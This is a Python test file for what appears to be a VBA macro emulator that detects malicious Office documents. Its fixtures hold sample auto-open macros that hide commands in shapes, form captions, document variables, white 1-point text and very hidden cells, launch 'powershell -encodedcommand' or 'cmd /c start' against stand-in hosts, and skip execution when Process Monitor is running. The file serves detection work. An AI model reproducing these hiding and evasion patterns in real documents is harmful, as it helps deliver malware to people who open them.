"""Whole macros of known shapes with their documents: what they would run, and where they took it from."""

from evaluate.vba.host.hosted import hosted

from emoscan.parse.bundle import Control, Document, Form, Module, Paragraph, Run, Shape
from emoscan.parse.workbook import Cell, Sheet, Workbook


def kinds(result, kind):
    return [value for name, value in result.facts if name == kind]


def test_text_of_a_shape():
    """2018: the command lies in a text box of the page, among undeclared names."""
    document = Document(host="word", shapes=(Shape("Text Box 2", "@cmd /c start https://files.example.test/a"),))
    source = """
    Sub AutoOpen()
    On Error Resume Next
    Set htFNX = ActiveDocument.Shapes(677413862 - 677413861)
    ahts = ozEjR + htFNX.TextFrame.TextRange + TkPP + aLjKq
    Interaction.Shell Mid(ahts, 2, Len(ahts)) + jidl, 677413861 - 677413861
    End Sub
    """
    result = hosted(source, document, entry="AutoOpen")
    assert result.effects("run") == ["cmd /c start https://files.example.test/a"]
    assert kinds(result, "vba.hidden_data") == ["text of shape Text Box 2"]


def test_pages_and_tabs_of_a_form():
    """2020: captions, tips and tags of pages and tabs, taken out by their numbers."""
    pages = (
        Control("Page1", "Page", {"Caption": "powers", "ControlTipText": "hell -e"}),
        Control("Page2", "Page", {"Caption": "", "Tag": "nc QQBB"}),
    )
    tabs = (Control("Tab1", "Tab", {"Caption": "==", "ControlTipText": "", "Tag": ""}),)
    form = Form(
        "Zxcv",
        {"Caption": "", "Tag": "win"},
        (Control("M", "MultiPage", {"Value": 0}, pages), Control("T", "TabStrip", {"Value": 0}, tabs)),
    )
    source = """
    Private Sub Document_Open()
        With Zxcv.M
            c = .Pages(0).Caption + .Pages(0).ControlTipText + .Pages("Page2").Tag
        End With
        CreateObject("WScript.Shell").Run c + Zxcv.T.Tabs(0).Caption, 0
    End Sub
    """
    modules = (Module("ThisDocument", source, "document"), Module("Zxcv", "", "form"))
    result = hosted("", Document(host="word", forms=(form,)), modules, entry="Document_Open")
    assert result.effects("run") == ["powershell -enc QQBB=="]
    assert {"control Page1 of Zxcv", "control Page2 of Zxcv"} <= set(kinds(result, "vba.hidden_data"))


def test_variables_properties_and_white_text():
    white = "CAAkAGEAPQAnAGgAdAB0AHAAcwA6AC8ALwBmAGkAbABlAHMALgBlAHgAYQBtAHAAbABlAC4AdABlAHMAdAAvACcA"
    document = Document(
        host="word",
        variables={"first": "powershell -w hidden -nop "},
        custom_properties={"second": "-encodedcommand "},
        paragraphs=(Paragraph("Please enable content"), Paragraph(white, (Run(white, color=0xFFFFFF, size=1.0),))),
    )
    source = """
    Sub AutoOpen()
        Dim p
        For Each p In ActiveDocument.Paragraphs
            If p.Range.Font.Color = wdColorWhite And p.Range.Font.Size = 1 Then t = p.Range.Text
        Next
        t = Replace(t, vbCr, "")
        Shell ThisDocument.Variables("first").Value & ActiveDocument.CustomDocumentProperties("second") & t, vbHide
    End Sub
    """
    result = hosted(source, document, entry="AutoOpen")
    assert result.effects("run") == [f"powershell -w hidden -nop -encodedcommand {white}"]
    assert set(kinds(result, "vba.hidden_data")) == {"document text", "document variable first", "document property second"}


def test_questions_to_the_surroundings_before_closing():
    source = """
    Private Sub Document_Close()
        If RecentFiles.Count < 3 Then End
        If Application.International(26) <> 1041 Then Exit Sub
        If Tasks.Exists("Process Monitor") Then Exit Sub
        Shell "cmd /c start https://files.example.test/b"
    End Sub
    """
    result = hosted("", Document(host="word"), (Module("ThisDocument", source, "document"),), entry="Document_Close")
    assert result.effects("run") == ["cmd /c start https://files.example.test/b"]
    assert kinds(result, "evade.env") == [
        "RecentFiles.Count < 3",
        "Application.International(26) <> 1041",
        'Tasks.Exists("Process Monitor")',
    ]


def test_a_form_of_a_finance_workbook():
    """Harmless: a form is filled and shown, a text file is opened in the editor."""
    form = Form(
        "EntryForm",
        {"Caption": "Cost centres"},
        (Control("Centre", "ComboBox", {"Value": "", "Text": ""}), Control("OK", "CommandButton", {"Caption": "OK", "Default": True})),
    )
    book = Workbook(sheets=(Sheet("Plan", code_name="Plan", cells=(Cell(1, 1, "centre"), Cell(2, 1, 4711.0), Cell(3, 1, 4712.0))),))
    modules = (
        Module("ThisWorkbook", "Private Sub Workbook_Open()\nEntryForm.Show\nEnd Sub", "document"),
        Module("Plan", "", "document"),
        Module(
            "EntryForm",
            """
            Private Sub UserForm_Initialize()
                Dim r As Long
                For r = 2 To Plan.Cells(Plan.Rows.Count, 1).End(xlUp).Row
                    Centre.AddItem Plan.Cells(r, 1).Value
                Next r
                Centre.ListIndex = 0
            End Sub
            Private Sub OK_Click()
                Plan.Range("C1").Value = Centre.List(Centre.ListIndex) & "/" & Centre.ListCount
                Shell "notepad.exe " & ThisWorkbook.Path & "\\notes.txt", vbNormalFocus
                Unload Me
            End Sub
            """,
            "form",
        ),
    )
    document = Document(host="excel", forms=(form,), workbook=book)
    result = hosted("", document, modules, entry="Workbook_Open", name="plan.xlsm")
    assert result.error is None
    assert result.effects("run") == [r"notepad.exe C:\Users\tanaka\Downloads\notes.txt"]
    grid = result.project.host.grids()[0]
    assert grid.values[1, 3] == "4711/2"
    assert kinds(result, "vba.hidden_data") == []


def test_rates_of_a_workbook():
    """Harmless: a table is fetched and its rows are written to the sheet."""
    book = Workbook(sheets=(Sheet("Rates", code_name="Rates", cells=(Cell(1, 1, "https://rates.example.test/today.csv"),)),))
    source = """
    Sub Refresh()
        With ActiveSheet.QueryTables.Add("TEXT;" & Sheets("Rates").Range("A1").Value, Range("A3"))
            .TextFileCommaDelimiter = True
            .Refresh BackgroundQuery:=False
        End With
        Range("A1").Font.Bold = True
        Columns("A:B").AutoFit
        ActiveSheet.UsedRange.Borders.LineStyle = xlContinuous
        Range("B2").Value = Now
        Range("B2").NumberFormat = "yyyy-mm-dd"
        ActiveWindow.FreezePanes = True
        Application.StatusBar = False
    End Sub
    """
    result = hosted(source, Document(host="excel", workbook=book), entry="Refresh")
    assert result.error is None
    assert result.effects("download") == ["https://rates.example.test/today.csv"]
    assert result.effects("run") == []


def test_values_of_cells_in_loops():
    """The command is cut into cells, column by column."""
    text = "cmd /c start https://files.example.test/c"
    cells = tuple(Cell(row, 50 + row % 3, letter) for row, letter in enumerate(text, 1))
    book = Workbook(sheets=(Sheet("Sheet1", code_name="Sheet1"), Sheet("Hidden", visibility="very hidden", cells=cells)))
    source = """
    Sub Auto_Open()
        With Worksheets("Hidden")
            For i = 1 To .Cells(.Rows.Count, 50).End(xlUp).Row + 2
                For j = 50 To 52
                    s = s & .Cells(i, j).Value
                Next
            Next
        End With
        Shell s
    End Sub
    """
    assert hosted(source, Document(host="excel", workbook=book), entry="Auto_Open").effects("run") == [text]
